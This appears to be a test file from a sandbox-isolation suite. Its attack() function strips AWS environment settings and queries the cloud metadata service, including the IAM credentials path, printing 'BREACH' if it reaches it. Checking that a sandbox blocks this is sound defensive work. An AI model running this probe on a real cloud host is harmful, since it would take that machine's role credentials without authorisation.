"""Asks the metadata service of the cloud for the role's credentials, as boto3 would and by hand.

kind: reach out
says: a network connection
strong: holds
partial: holds
none: not run: on a machine in a cloud it would get that machine's credentials
"""

import contextlib
import os
import urllib.request

import botocore.session


def attack():
    os.environ.pop("AWS_EC2_METADATA_DISABLED", None)
    for name in [name for name in os.environ if name.startswith("AWS_") and "KEY" in name]:
        del os.environ[name]
    session = botocore.session.get_session()
    session.set_config_variable("metadata_service_timeout", 1)
    if session.get_credentials():
        print("BREACH: credentials of the machine")
    for address in ("169.254.170.2", "[fd00:ec2::254]", "169.254.169.254"):
        with contextlib.suppress(OSError):
            print("BREACH:", urllib.request.urlopen(f"http://{address}/latest/meta-data/", timeout=0.2).read())
    urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/", timeout=0.2)
